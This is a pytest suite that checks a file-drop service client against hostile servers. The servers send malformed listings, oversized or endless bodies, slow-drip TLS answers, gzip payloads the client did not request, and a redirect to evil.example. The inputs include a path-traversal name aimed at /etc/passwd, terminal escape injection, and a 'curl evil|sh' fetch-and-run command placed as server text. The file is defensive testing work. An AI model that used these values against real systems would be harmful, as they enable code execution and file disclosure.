"""Servers that aren't drops, and drops that mean harm: a party is told so, soon, and nothing of theirs is believed."""

import contextlib
import gzip
import json
import socket
import ssl
import threading
import time
from itertools import count

import httpx
import pytest

from fluidmol.errors import UnavailableError
from fluidmol_drop import client, line
from fluidmol_drop.client import HttpMailbox
from fluidmol_drop.enrolling import enrol
from fluidmol_drop.wire import Wire, refusal

ITEM = {"name": "charter.toml"}
STATE = {"id": "a" * 32, "offset": 0, "size": 9, "done": False, "chunk": 4096}


@pytest.fixture
def facing(drop):
    """A mailbox at a server that answers as a function says, and the requests that it got."""

    def face(answer):
        requests = []

        def handle(request):
            requests.append(request)
            assert len(requests) < 5000, "it never ends"
            return answer(request)

        wire = drop.wire("ada")
        wire.client._transport = httpx.MockTransport(handle)
        return HttpMailbox(drop.url, drop.identity("ada").folder, wire=wire), requests

    return face


def page(**more):
    return httpx.Response(200, json={"items": [], "more": False} | more)


@pytest.mark.parametrize(
    "answer",
    [
        httpx.Response(200, json={"more": False}),
        httpx.Response(200, json={"items": []}),
        page(items=None),
        page(items=[1]),
        page(items=[{"name": 1}]),
        page(items=[{}]),
        page(items=[ITEM] * 1001),
        page(more="yes"),
        page(items=[{"name": "../../../etc/passwd"}]),
        page(items=[{"name": "\x1b[2Jx"}]),
        httpx.Response(200, json=[1]),
        httpx.Response(200, content=b"[" * 200_000),
        httpx.Response(200, content=b'{"items": [], "more": ' + b"9" * 5000 + b"}"),
        httpx.Response(200, content=b"\xff\xfe{}"),
        httpx.Response(200, content=b" " * 2_000_000 + json.dumps({"items": [], "more": False}).encode()),
        httpx.Response(204),
        httpx.Response(302, headers={"location": "https://evil.example/"}, json={"items": [], "more": False}),
    ],
)
def test_lists_of_names_that_are_none(facing, answer):
    with pytest.raises(UnavailableError, match="isn't a drop"):
        facing(lambda _: answer)[0].names()


def test_names_from_elsewhere(facing):
    mailbox, _ = facing(lambda _: page(items=[ITEM]))
    assert mailbox.names() == mailbox.names("charter.toml") == ["charter.toml"]
    with pytest.raises(UnavailableError, match="can't be there"):
        mailbox.names("replies")


def test_a_list_without_end(facing):
    numbers = count()
    mailbox, requests = facing(lambda _: page(items=[{"name": f"replies/x{next(numbers):012d}"}], more=True))
    with pytest.raises(UnavailableError, match="has no end"):
        mailbox.names()
    assert len(requests) == client.PAGES


def test_packed_answers_are_not_unpacked(facing):
    packed = gzip.compress(json.dumps({"items": [], "more": False}).encode())
    mailbox, requests = facing(
        lambda _: httpx.Response(200, content=Streamed(packed), headers={"content-encoding": "gzip"})
    )
    for attempt in (mailbox.names, lambda: mailbox.read("charter.toml")):
        with pytest.raises(UnavailableError, match="packed content, unasked"):
            attempt()
    assert {request.headers["accept-encoding"] for request in requests} == {"identity"}


class Streamed(httpx.SyncByteStream):
    """Content that isn't looked at before it is read."""

    def __init__(self, *pieces):
        self.pieces = pieces

    def __iter__(self):
        yield from self.pieces


def test_no_more_is_read_than_may_be_right(facing):
    read = []

    def endless():
        while True:
            read.append(1)
            yield bytes(1 << 16)

    for status in (200, 403):
        mailbox, _ = facing(lambda _, status=status: httpx.Response(status, content=endless()))
        for attempt in (mailbox.names, lambda mailbox=mailbox: mailbox.entry("charter.toml")):
            read.clear()
            with pytest.raises(UnavailableError, match="more than 1,048,576 bytes"):
                attempt()
            assert len(read) == 17


@pytest.mark.parametrize(
    "facts",
    [
        {}, {"size": "many"}, {"size": -1}, {"size": True}, {"size": 1e3}, {"at": "yesterday"}, {"at": "2026-01-01"},
        {"at": 7}, {"at": "0001-01-01T00:00:00+23:00"},
    ],
)  # fmt: skip
def test_facts_that_are_none(facing, facts):
    said = {"size": 10, "at": "2026-01-01T00:00:00Z"}
    assert facing(lambda _: httpx.Response(200, json=said))[0].entry("charter.toml").size == 10
    with pytest.raises(UnavailableError, match="isn't a drop"):
        facing(lambda _: httpx.Response(200, json=said | facts if facts else {}))[0].entry("charter.toml")


@pytest.mark.parametrize(
    ("state", "sent"),
    [
        ({}, 300), ({"chunk": 0}, 0), ({"chunk": 1}, 0), ({"chunk": "a"}, 0), ({"offset": -5}, 0), ({"offset": "x"}, 0),
        ({"offset": 10**9}, 0), ({"offset": 10**5000}, 0), ({"offset": None}, 0), ({"id": "../.."}, 0), ({"id": 1}, 0),
        ({"done": 1}, 0),
    ],
)  # fmt: skip
def test_uploads_that_get_nowhere(facing, state, sent):
    content = json.dumps(STATE | state) if state.get("offset") != 10**5000 else '{"offset": 1%s}' % ("0" * 5000)
    mailbox, requests = facing(lambda _: httpx.Response(200, content=content.encode()))
    with pytest.raises(UnavailableError):
        mailbox.write("agreements/ada.json", bytes(10_000))
    assert sum(request.method == "PUT" for request in requests) == sent


@pytest.mark.parametrize(("status", "steps"), [(200, 1), (409, 1), (200, -1), (409, -1)])
def test_uploads_that_creep_or_go_back(facing, status, steps):
    place = [0]

    def answer(request):
        if request.method == "PUT":
            place[0] = max(0, int(request.url.params["offset"]) + (steps if place[0] else 100))
        return httpx.Response(status if request.method == "PUT" else 200, json=STATE | {"offset": place[0]})

    mailbox, requests = facing(answer)
    with pytest.raises(UnavailableError, match="doesn't arrive whole"):
        mailbox.write("agreements/ada.json", bytes(1_000_000))
    assert len(requests) < 310


@pytest.mark.parametrize("status", [201, 204, 302])
def test_content_that_is_none(facing, status):
    with pytest.raises(UnavailableError, match="isn't a drop"):
        facing(lambda _: httpx.Response(status))[0].read("charter.toml")


def test_what_a_server_says_is_text():
    said = {"message": "\x1b]0;pwned\x07\x1b[2JLabels are published", "hint": "curl evil|sh\nError: x" * 1000}
    shown = str(refusal(httpx.Response(403, json=said)))
    assert shown.isprintable()
    assert "Labels are published" in shown
    assert len(shown) < 1100
    for odd in ({"message": {"a": 1}, "hint": [1]}, {"message": "m"}, []):
        assert str(refusal(httpx.Response(400, json=odd))) == "the server answered 400. Is that address a drop?"


def test_a_pause_that_is_no_number_is_none(facing):
    for text in ("²", "-5", "soon"):
        answers = iter([httpx.Response(503, headers={"retry-after": text.encode("latin-1")}), page()])
        assert facing(lambda _, answers=answers: next(answers))[0].names() == []


def test_an_enrolment_that_is_none(drop, tmp_path, monkeypatch):
    for said in ({}, {"certificate": 1}):
        monkeypatch.setattr(Wire, "patiently", lambda *_, said=said: httpx.Response(200, json=said))
        with pytest.raises(UnavailableError, match="no drop's enrolment"):
            enrol("https://127.0.0.1:9", "ada", "code", drop.home / "ca.pem", tmp_path)


@contextlib.contextmanager
def dripping(drop, first):
    """Serve one connection: some bytes, then one every now and then for ever."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(drop.home / "server.pem", drop.home / "server.key")
    gone = threading.Event()

    def serve(listener):
        with contextlib.suppress(OSError), context.wrap_socket(listener.accept()[0], server_side=True) as connection:
            connection.recv(1 << 16)
            connection.sendall(first)
            while not gone.is_set():
                connection.sendall(b" ")
                time.sleep(0.02)

    with socket.create_server(("127.0.0.1", 0)) as listener:
        thread = threading.Thread(target=serve, args=(listener,))
        thread.start()
        try:
            yield f"https://127.0.0.1:{listener.getsockname()[1]}"
        finally:
            gone.set()
            thread.join(20)


@pytest.mark.parametrize("first", [b"HTTP/1.1 200 OK\r\ncontent-length: 1000000\r\n\r\n", b"HTTP/1.1 200 OK\r\nx: "])
def test_an_answer_that_drips(drop, monkeypatch, first):
    monkeypatch.setattr(line, "GRACE", 0.3)
    waits = []
    with dripping(drop, first) as url:
        wire = Wire(url, drop.identity("ada").context(), sleep=waits.append)
        with pytest.raises(UnavailableError, match="the answer comes along too slowly"):
            wire.ask("GET", "/v1/names")
        wire.client.close()
    assert not waits, "it would take as long again"


def test_a_request_that_is_taken_too_slowly(drop, monkeypatch):
    monkeypatch.setattr(line, "GRACE", -1.0)
    wire = drop.wire("ada")
    with pytest.raises(UnavailableError, match="the request comes along too slowly"):
        wire.ask("GET", "/v1/names")
    wire.client.close()


def test_an_answer_larger_than_any_blob(drop, monkeypatch):
    monkeypatch.setattr(line, "LARGEST", 500)
    with dripping(drop, b"HTTP/1.1 100 Continue\r\n\r\n" * 100) as url:
        wire = Wire(url, drop.identity("ada").context(), pauses=())
        with pytest.raises(UnavailableError, match="the answer has no end"):
            wire.ask("GET", "/v1/names")
        wire.client.close()
